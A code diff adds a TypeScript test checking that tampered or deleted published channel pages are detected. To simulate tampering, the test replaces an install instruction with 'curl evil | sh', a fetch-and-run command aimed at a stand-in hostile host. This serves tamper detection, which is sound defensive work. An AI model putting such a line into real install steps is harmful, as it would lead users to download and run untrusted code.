@@ -6,6 +6,7 @@ import { memoryStore, plannedMove, sampleContent } from "../channels/__fixtures_
 import { moveChannel } from "../channels/move.ts";
 import type { Store } from "../store/store.ts";
 import { fillSampleBucket, mover, sampleSettings } from "./__fixtures__/sample-bucket.ts";
+import { pageFindings } from "./page-findings.ts";
 import { publishPages } from "./publish-pages.ts";
 
 const channels = [{ product: "runtime", channel: "stable" }];
@@ -152,4 +153,24 @@ test("what only an unsigned object tells gets no page and is not listed", async 
     text(store, "index.html"),
     /9\.9\.9|stable<\/span>\n<span class="name"><a href="channels\/runtime-stable/,
   );
+});
+
+test("an altered page is named, whatever number it states; a page of a number in force is another stack's", async () => {
+  const store = copied();
+  const published = await publish(store);
+  const keys = ["runtime stable"];
+  const path = "channels/runtime-stable.html";
+  assert.deepEqual(await pageFindings(store, keys, published), []);
+  const page = text(store, path);
+  const stating = (number: number) =>
+    page.replace(/(slipway-serial" content=")\d+/, `$1${number}`).replace("sudo apt install", "curl evil | sh");
+  for (const number of [1, 6, 7, 9999]) {
+    store.objects.set(path, Buffer.from(stating(number)));
+    assert.deepEqual(await pageFindings(store, keys, published), [`${path}: altered`], `${number}`);
+  }
+  store.objects.set(path, Buffer.from(stating(6)));
+  const earlier = { ...published, [path]: { number: 5, sha256: "of the page before" } };
+  assert.deepEqual(await pageFindings(store, keys, earlier), []);
+  store.objects.delete(path);
+  assert.deepEqual(await pageFindings(store, keys, published), [`${path}: missing`]);
 });
